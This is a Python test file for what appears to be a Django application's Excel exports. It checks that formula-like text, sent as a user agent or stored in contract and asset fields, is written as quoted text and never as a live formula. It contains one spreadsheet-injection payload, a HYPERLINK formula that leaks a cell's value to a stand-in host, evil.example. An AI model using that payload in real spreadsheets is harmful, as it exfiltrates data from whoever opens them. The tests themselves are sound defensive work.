"""Excel files hold text as text: nothing a user, a browser or the core system typed becomes a
live formula, whatever it starts with (= + - @, tab, CR), in any report (one shared writer)."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.test import Client
from django.urls import reverse

from tests.accounts.company_helpers import admin_client, make_admin
from tests.accounts.conftest import make_client_user
from tests.downloads import read_xlsx, streamed
from tests.factories import ContractFactory, LeasedAssetFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")'


def cells(content: bytes) -> list:
    sheet = read_xlsx(content)
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def formulas_in(content: bytes) -> bool:
    """Any <f> element in any sheet: what Excel and LibreOffice would evaluate."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return any(b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets)


def test_a_user_agent_sent_to_the_sign_in_page_is_text_in_the_audit_export(company):
    make_client_user(company=company, login="jan.k")
    browser = Client(HTTP_USER_AGENT=FORMULA)
    identified = browser.post(
        reverse("accounts:signin"), {"client_number": company.client_number, "login": "jan.k"}
    )
    assert identified.status_code == 302

    admin = admin_client(make_admin(company))
    content = streamed(admin.get(reverse("accounts:company_audit_xlsx")))

    assert not formulas_in(content)
    found = [cell for cell in cells(content) if cell.value == FORMULA]
    assert found, "the user agent is in the export, as sent"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    assert all(cell.data_type != "f" for cell in cells(content))


def test_texts_that_look_like_formulas_stay_text_in_a_contract_report(company):
    contract = ContractFactory(company=company, number="=2+3")
    LeasedAssetFactory(contract=contract, make="@SUM(A1)", model="", registration_number="-1+1")
    user = make_client_user(company=company, login="jan.k", can_view_contracts=True)
    client = Client()
    client.force_login(user)

    content = streamed(client.get(reverse("contracts:contracts_xlsx")))

    assert not formulas_in(content)
    values = {cell.value: cell for cell in cells(content)}
    for text in ("=2+3", "@SUM(A1) ", "-1+1"):
        assert text in values, text
        assert values[text].data_type == "s" and values[text].quotePrefix, text
    assert values["Numer umowy"].quotePrefix is False  # ordinary text is left as it is
